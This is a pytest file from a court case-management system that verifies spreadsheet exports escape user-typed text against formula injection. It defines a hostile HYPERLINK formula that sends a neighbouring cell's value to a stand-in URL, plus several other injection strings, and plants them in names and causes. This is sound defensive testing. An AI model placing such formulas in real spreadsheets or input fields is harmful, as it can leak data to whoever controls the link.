"""Spreadsheet formula injection: text that users typed (party names, judges' names, causes, to-do titles, roster
reasons) is written into every export as a text cell, never a formula or an error value, and reads back intact;
the numbers and dates the system computes stay numbers and dates.

The exports are taken from the dashboards' small court (tests/stats/conftest.py), whose cases, pushes, 终本 stock,
sanctions and litigation reach every export, after every user-typed name in it is made hostile.
"""
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.models import LitigationCase, Party
from pushes.models import PushBatch
from sanctions.choices import RosterKind, RosterStatus
from sanctions.models import RosterEntry
from stats import metrics
from tests.stats.conftest import (P_FROM, P_TO, applicant, built_world, clerk, court, judge, judge2,  # noqa: F401
                                  leader, other_case, other_court, other_judge, trial_judge, world)
from wanian_exec import spreadsheets

pytestmark = pytest.mark.django_db

PERIOD = f"date_from={P_FROM}&date_to={P_TO}"
HOSTILE = '=HYPERLINK("http://x"&B3,"点击查看")'
OTHERS = ["+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "#N/A", "=1"]


def cells_of(response):
    content = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value is not None]


def assert_text_only(response, *expected):
    assert response.status_code == 200, response.status_code
    cells = cells_of(response)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type in ("f", "e")]
    assert formulas == []
    texts = [c.value for c in cells if c.data_type == "s"]
    for text in expected:
        assert any(text in value for value in texts), text
    return cells


@pytest.fixture
def hostile(world, judge, judge2):
    """Every name a user typed in the court is now a formula."""
    Party.objects.update(name=HOSTILE)
    get_user_model().objects.filter(pk__in=[judge.pk, judge2.pk]).update(full_name=HOSTILE)
    LitigationCase.objects.update(cause=HOSTILE)
    return world


def test_the_push_batch_export_writes_a_hostile_name_as_text(client, hostile, leader):
    client.force_login(leader)
    batches = list(PushBatch.objects.all())
    assert batches
    for batch in batches:
        cells = assert_text_only(client.get(reverse("pushes:batch-export", args=[batch.pk])), HOSTILE)
        assert any(isinstance(c.value, (int, float)) and c.number_format == "#,##0.00" for c in cells)  # amounts


def test_the_zhongben_library_export_writes_a_hostile_name_as_text(client, hostile, judge):
    client.force_login(judge)
    cells = assert_text_only(client.get(reverse("clearance:library"), {"format": "xlsx", "state": "all"}), HOSTILE)
    assert any(c.is_date for c in cells)  # filing and closing dates stay dates


def test_every_metric_export_writes_hostile_names_as_text(client, hostile, leader):
    client.force_login(leader)
    exported = 0
    for name, definition in metrics.REGISTRY.items():
        for part in ("numerator", "denominator"):
            if part == "denominator" and definition.denominator is None:
                continue
            response = client.get(reverse("stats:cases", args=[name]), {
                "date_from": P_FROM, "date_to": P_TO, "part": part, "format": "xlsx"})
            cells = assert_text_only(response)
            rows = len({c.row for c in cells})
            if rows > 3:  # title, subtitle, header, then the cases: each names its parties or its cause
                exported += 1
                assert any(c.value == HOSTILE or HOSTILE in str(c.value) for c in cells if c.row > 3), name
    assert exported >= 17


def test_the_summary_judges_and_monthly_exports(client, hostile, leader):
    client.force_login(leader)
    assert_text_only(client.get(f"{reverse('stats:summary-export')}?{PERIOD}"))
    judges = assert_text_only(client.get(f"{reverse('stats:judges-export')}?{PERIOD}"), HOSTILE)
    assert any(isinstance(c.value, int) and c.row > 3 for c in judges)  # counts stay numbers
    assert_text_only(client.get(f"{reverse('stats:trend-export')}?{PERIOD}"))


def test_the_judge_dashboard_exports(client, hostile, judge):
    client.force_login(judge)
    for which in ("deadlines", "overdue", "todos"):
        assert_text_only(client.get(reverse("stats:judge-export", args=[which])))
    assert_text_only(client.get(reverse("stats:judge-export", args=["overdue"])), HOSTILE)


def test_a_roster_export_writes_hostile_names_and_reasons_as_text(client, hostile, judge):
    case = hostile.G
    party = case.respondents.first()
    RosterEntry.objects.create(court=case.court, case=case, party=party, kind=RosterKind.DETENTION_CRIMINAL,
                               status=RosterStatus.PENDING, reasons=[HOSTILE, *OTHERS],
                               entered_on=dt.date(2024, 6, 1))
    client.force_login(judge)
    url = reverse("sanctions:roster-export", args=[RosterKind.DETENTION_CRIMINAL])
    cells = assert_text_only(client.get(url), HOSTILE)
    amounts = [c.value for c in cells if c.number_format == "#,##0.00"]
    assert amounts and all(isinstance(v, (int, float)) for v in amounts)


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS])
def test_the_one_writer_keeps_every_dangerous_string_as_text(text):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(spreadsheets.row(sheet, [text, 12, Decimal("3.50"), dt.date(2024, 1, 2), "平常文字"]))
    sheet.append([spreadsheets.cell(sheet, text)])
    buffer = io.BytesIO()
    book.save(buffer)
    rows = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    first, second = rows
    assert (first[0].data_type, first[0].value) == ("s", text)
    assert (second[0].data_type, second[0].value) == ("s", text)
    assert first[0].quotePrefix == text.startswith(spreadsheets.FORMULA_TRIGGERS)
    assert first[1].value == 12 and first[2].value == 3.5 and first[3].is_date
    assert first[4].value == "平常文字"


def test_no_exporter_builds_cells_of_its_own():
    """One writer: openpyxl's WriteOnlyCell is used only by wanian_exec.spreadsheets."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    users = [p.relative_to(root).as_posix() for p in root.glob("*/**/*.py")
             if ".venv" not in p.parts and "tests" not in p.parts and "WriteOnlyCell" in p.read_text("utf-8")]
    assert users == ["wanian_exec/spreadsheets.py"]
